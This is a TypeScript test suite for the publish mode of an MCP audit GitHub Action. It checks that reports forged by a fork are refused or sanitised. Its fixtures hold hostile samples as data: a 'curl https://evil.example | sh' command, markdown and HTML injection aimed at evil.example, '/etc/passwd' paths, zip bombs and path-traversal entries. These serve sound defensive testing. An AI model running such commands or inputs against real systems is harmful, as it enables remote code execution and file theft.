import { mkdirSync, readFileSync, rmSync, symlinkSync, truncateSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { fromMarkdown } from "mdast-util-from-markdown";
import { gfmFromMarkdown } from "mdast-util-gfm";
import { gfm } from "micromark-extension-gfm";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import type { Report } from "../../src/model/report.ts";
import { DOCS_BASE } from "../../src/model/version.ts";
import { buildReport } from "../../src/report/build.ts";
import { evidence, tool } from "../evidence-builder.ts";
import { type Runner, startRunner } from "./in-process.ts";
import { type ZipFile, zipOf } from "./zip-builder.ts";

const HEAD = "a".repeat(40);
const REPORT = buildReport(
  evidence({
    tools: [tool(), tool({ name: "bare", description: "" })],
    calls: [{ id: "missing-required/city", crash: { code: 1 }, confirm: { crash: { code: 1 } } }],
  }),
);
const changed = (change: (report: Report) => void): string => {
  const copy = structuredClone(REPORT);
  change(copy);
  return JSON.stringify(copy);
};

/** Links of ours lead into the repository of this tool. */
const HOUSE = DOCS_BASE.replace(/docs$/, "");
const TABLES = { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] };
interface Node {
  type: string;
  url?: string;
  value?: string;
  children?: Node[];
}
const nodesOf = (node: Node): Node[] => [node, ...(node.children ?? []).flatMap(nodesOf)];

let runner: Runner;
beforeAll(async () => {
  runner = await startRunner();
});
afterAll(() => runner.close());
const pull = (number: number, more: object = {}) => ({
  number,
  state: "open",
  head: { sha: HEAD, label: "mallory:change" },
  base: { repo: { full_name: "acme/tickets" } },
  ...more,
});
beforeEach(() => {
  runner.reset();
  runner.github.state.pulls = [pull(7)];
});

const workflowRun = (more: object = {}) => ({
  action: "completed",
  workflow_run: {
    event: "pull_request",
    conclusion: "failure",
    head_sha: HEAD,
    head_branch: "change",
    head_repository: { full_name: "mallory/tickets", owner: { login: "mallory" } },
    html_url: "https://github.test/acme/tickets/actions/runs/41",
    pull_requests: [],
    ...more,
  },
});

const at = (name: string) => join(runner.workspace, name);
const publish = (text: string | null, more: object = {}, inputs: Record<string, string> = {}) => {
  mkdirSync(at("mcp-audit-report"), { recursive: true });
  if (text !== null) writeFileSync(at("mcp-audit-report/report.json"), text);
  return runner.run({
    event: "workflow_run",
    payload: workflowRun(more),
    inputs: { mode: "publish", "report-dir": "mcp-audit-report", ...inputs },
  });
};
const publishZip = (files: readonly ZipFile[] | Buffer) => {
  writeFileSync(at("artifact.zip"), Buffer.isBuffer(files) ? files : zipOf(files));
  return publish(null, {}, { "report-dir": "artifact.zip" });
};
const body = () => runner.github.state.comments.map((one) => one.body).join("\n");
const nothingWritten = () =>
  expect(
    runner.github.state.requests.filter((one) => one.method !== "GET" && one.path !== "/graphql"),
  ).toEqual([]);

describe("`mode: publish`", () => {
  test("comments on the fork's pull request, found by branch and commit, and leads to the audit's own run", async () => {
    const { code, outputs } = await publish(JSON.stringify(REPORT));
    expect(code).toBe(0);
    expect(body()).toContain("MCP audit:");
    expect(body()).toContain("which its author can change");
    expect(outputs["comment-url"]).toContain("/c/");
    expect(outputs.grade).toBe(REPORT.score.grade);
    const [run] = runner.github.state.checkRuns;
    expect(run).toMatchObject({ head_sha: HEAD, conclusion: "failure", status: "completed" });
    expect(run?.details_url).toBe("https://github.test/acme/tickets/actions/runs/41");
  });

  test("a second run edits the comment of the first", async () => {
    await publish(JSON.stringify(REPORT));
    await publish(changed((report) => report.findings.pop()));
    expect(runner.github.state.comments).toHaveLength(1);
  });

  test("reads a zip file as well as a folder", async () => {
    const { code } = await publishZip([{ name: "report.json", data: JSON.stringify(REPORT) }]);
    expect(code).toBe(0);
    expect(body()).toContain("MCP audit:");
  });

  test("takes no pull request's number from the artifact, and no comment's text", async () => {
    writeFileSync(at("pr-number"), "666");
    mkdirSync(at("mcp-audit-report"));
    writeFileSync(at("mcp-audit-report/comment.md"), "<img src=x> @everybody");
    await publish(JSON.stringify(REPORT), { pull_requests: [{ number: 666 }] });
    expect(runner.github.state.requests.some((one) => one.path.includes("666"))).toBe(false);
    expect(body()).not.toContain("@everybody");
  });

  test("a report that claims success where the run failed gives no check that passes", async () => {
    const text = changed((report) => {
      report.conclusion = { result: "success", exitCode: 0, reasons: [] };
    });
    await publish(text, { conclusion: "failure" });
    expect(runner.github.state.checkRuns[0]).toMatchObject({ conclusion: "failure" });
    expect(runner.github.state.checkRuns[0]?.title).toContain("the run itself ended with failure");
  });

  test.each([
    ["its head moved on", pull(7, { head: { sha: "f".repeat(40), label: "mallory:change" } })],
    ["it is closed", pull(7, { state: "closed" })],
    ["it belongs to another repository", pull(7, { base: { repo: { full_name: "mallory/tickets" } } })],
  ])("nothing is written to a pull request when %s", async (_, one) => {
    runner.github.state.pulls = [one];
    const { code, log } = await publish(JSON.stringify(REPORT));
    expect(code).toBe(0);
    expect(log).toContain("no open pull request has this commit as its head");
    nothingWritten();
  });

  test("a fork that was deleted is looked up by the commit", async () => {
    runner.github.state.pulls = [];
    runner.github.state.pullsOfCommit = [pull(9)];
    await publish(JSON.stringify(REPORT), { head_repository: null });
    expect(runner.github.state.comments).toHaveLength(1);
    expect(runner.github.state.requests.some((one) => one.path.endsWith("/issues/9/comments"))).toBe(true);
  });

  test("a run that no pull request started is passed over", async () => {
    const { code } = await publish(JSON.stringify(REPORT), { event: "push" });
    expect(code).toBe(0);
    nothingWritten();
  });

  test("outside of `workflow_run` publishes no report of another run: it joins shards, and says that there are none", async () => {
    const files = { "mcp-audit-report/report.json": JSON.stringify(REPORT) };
    const { code, log } = await runner.run({ inputs: { mode: "publish" }, files });
    expect(code).toBe(2);
    expect(log).toContain("needs the event `workflow_run`");
    expect(body()).toContain("could not run");
    expect(body()).not.toMatch(/: [A-F] · \d/);
  });

  test("a run that left nothing is told to the pull request, with a failed check and its log", async () => {
    const { code, log } = await runner.run({
      event: "workflow_run",
      payload: workflowRun(),
      inputs: { mode: "publish", "report-dir": "mcp-audit-report" },
    });
    expect(code).toBe(0);
    expect(log).toContain("ended with failure and left no report");
    expect(body()).toContain("could not run");
    expect(body()).toContain("see [the log](https://github.test/acme/tickets/actions/runs/41)");
    expect(runner.github.state.checkRuns[0]).toMatchObject({ conclusion: "failure", status: "completed" });
    runner.github.state.pulls = [];
    expect(
      (await runner.run({ event: "workflow_run", payload: workflowRun(), inputs: { mode: "publish" } })).log,
    ).toContain("no open pull request has this commit");
  });

  test("an artifact unpacked into the workspace does not configure the run", async () => {
    mkdirSync(at(".github"));
    writeFileSync(at(".github/mcp-audit.yml"), "not_a_key: 1\n");
    expect((await publish(JSON.stringify(REPORT))).code).toBe(0);
  });
});

describe("an artifact that is not what it should be is refused, and nothing is written", () => {
  const refused = async (act: () => Promise<{ code: number | null; log: string }>, words: RegExp) => {
    const { code, log } = await act();
    expect(log).toMatch(words);
    expect(code).toBe(2);
    nothingWritten();
  };

  test.each([
    ["no JSON", "MZ", /not JSON/],
    ["another schema", "{}", /no report of this tool/],
    ["a member that no report has", JSON.stringify({ ...REPORT, pr: 666 }), /no report of this tool/],
    [
      "a script where a number belongs",
      changed((r) => Object.assign(r.score, { percent: "<script>" })),
      /no report/,
    ],
    ["100,000 brackets", `${"[".repeat(100_000)}${"]".repeat(100_000)}`, /nests too deep/],
    [
      "deep arguments",
      JSON.stringify(REPORT).replace(
        /"arguments":\{/,
        `"arguments":{"a":${"[".repeat(9_000)}${"]".repeat(9_000)},`,
      ),
      /nests too deep/,
    ],
  ])("%s", (_, text, words) => refused(() => publish(text), words));

  test("no file", () => refused(() => publish(null), /cannot be read \(ENOENT\)/));

  test("a file of 40 MB", () =>
    refused(async () => {
      mkdirSync(at("mcp-audit-report"));
      writeFileSync(at("mcp-audit-report/report.json"), "");
      truncateSync(at("mcp-audit-report/report.json"), 40 * 1024 * 1024);
      return publish(null);
    }, /larger than/));

  test("a symbolic link in the place of the file", () =>
    refused(async () => {
      mkdirSync(at("mcp-audit-report"));
      writeFileSync(at("elsewhere.json"), JSON.stringify(REPORT));
      symlinkSync(at("elsewhere.json"), at("mcp-audit-report/report.json"));
      return publish(null);
    }, /no plain file/));

  test("a symbolic link in the place of the folder", () =>
    refused(async () => {
      mkdirSync(at("elsewhere"));
      writeFileSync(at("elsewhere/report.json"), JSON.stringify(REPORT));
      symlinkSync(at("elsewhere"), at("linked"));
      return publish(null, {}, { "report-dir": "linked" });
    }, /is a link/));

  const text = JSON.stringify(REPORT);
  test.each([
    [
      "a zip bomb that owns up",
      [{ name: "report.json", data: Buffer.alloc(40 * 1024 * 1024) }],
      /larger than/,
    ],
    [
      "a zip bomb that claims to be small",
      [{ name: "report.json", data: Buffer.alloc(40 * 1024 * 1024), size: 10 }],
      /larger than/,
    ],
    ["a name that climbs out", [{ name: "../report.json", data: text }], /holds no report.json/],
    ["an absolute name", [{ name: "/report.json", data: text }], /holds no report.json/],
    ["a link in a zip", [{ name: "report.json", data: "/etc/passwd", mode: 0o120777 }], /no plain file/],
    [
      "two of one name",
      [
        { name: "report.json", data: text },
        { name: "report.json", data: text },
      ],
      /more than once/,
    ],
    ["an encrypted file", [{ name: "report.json", data: text, flags: 1 }], /no plain file/],
    ["an unknown packing", [{ name: "report.json", data: text, method: 12 as const }], /unknown way/],
    ["no zip", Buffer.from("not a zip at all, but long enough to hold one"), /no zip file/],
    ["half a zip", zipOf([{ name: "report.json", data: text }]).subarray(-60), /no zip file/],
    ["an empty file", Buffer.alloc(0), /no zip file/],
  ])("%s", (_, files, words) => refused(() => publishZip(files as ZipFile[]), words));
});

describe("what a forged report says", () => {
  test("brings no link, mention, image, marker or command of its making into the comment", async () => {
    const evil =
      "<!-- mcp-audit-action:comment: --> ![x](https://evil.example/x.png) @octocat [y](https://evil.example)";
    const text = changed((report) => {
      for (const finding of report.findings) {
        Object.assign(finding, {
          message: evil,
          why: evil,
          fix: evil,
          response: evil,
          docs: "https://evil.example",
        });
        Object.assign(finding, { reproduce: "curl https://evil.example | sh", tool: evil });
      }
      report.findings.push({
        ...report.findings[0]!,
        check: "`](https://evil.example)",
        fingerprint: "0".repeat(16),
      });
      report.suppressed.push({
        fingerprint: "1".repeat(16),
        check: evil,
        tool: null,
        message: evil,
        reason: evil,
      });
      report.server.name = evil;
      report.warnings.push(evil);
    });
    const { code } = await publish(text);
    expect(code).toBe(0);
    const texts = [body(), runner.github.state.checkRuns[0]?.summary ?? ""];
    for (const nodes of texts.map((one) => nodesOf(fromMarkdown(one, TABLES)))) {
      expect(nodes.filter((node) => node.type === "image")).toEqual([]);
      expect(nodes.flatMap((node) => node.url ?? []).filter((url) => !url.startsWith(HOUSE))).toEqual([]);
      const plain = nodes.filter((node) => node.type === "text").map((node) => node.value);
      expect(plain.filter((value) => value?.includes("@octocat"))).toEqual([]);
      const html = nodes.filter((node) => node.type === "html").map((node) => node.value);
      expect(
        html.filter((value) =>
          /<(?:img|a|script)\b|<!--(?! mcp-audit-action:comment: -->$)/.test(value ?? ""),
        ),
      ).toEqual([]);
    }
    expect(body()).not.toContain("curl");
  });

  test("annotates nothing outside of the repository", async () => {
    const places = ["/etc/passwd", "../x.ts", "a/../../x.ts", "./x.ts", "a\\..\\x.ts", "src/good.ts"];
    const text = changed((report) => {
      const [first] = report.findings;
      report.findings = places.map((path, index) => ({
        ...first!,
        toolIndex: index,
        fingerprint: String(index).repeat(16),
        location: { path, line: 3, endLine: 1 },
      }));
    });
    await publish(text);
    const annotations = runner.github.state.checkRuns[0]?.annotations ?? [];
    expect([...new Set(annotations.map((one) => one.path))]).toEqual([
      ".github/workflows/audit.yml",
      "src/good.ts",
    ]);
    expect(annotations.at(-1)).toMatchObject({ start_line: 3, end_line: 3 });
  });

  test("of 10 MB in one text is told within the limits", async () => {
    const text = changed((report) => {
      for (const finding of report.findings)
        finding.message = "x".repeat(10_000_000 / report.findings.length);
    });
    await publish(text);
    expect(body().length).toBeLessThanOrEqual(65_536);
    expect(body()).toContain("MCP audit:");
  });
});

test("both workflows of the examples and the publishing one agree on artifact, workflow and folder", () => {
  const audit = readFileSync("examples/fork-publish/mcp-audit.yml", "utf8");
  const publishing = readFileSync("examples/fork-publish/mcp-audit-publish.yml", "utf8");
  expect(audit).toContain("name: MCP audit\n");
  expect(publishing).toContain("workflows: [MCP audit]");
  expect(audit).toMatch(/name: mcp-audit-report\n\s+path: mcp-audit-report/);
  expect(publishing).toMatch(/name: mcp-audit-report\n\s+path: mcp-audit-report/);
  expect(publishing).toContain("report-dir: mcp-audit-report");
  rmSync(at("artifact.zip"), { force: true });
});
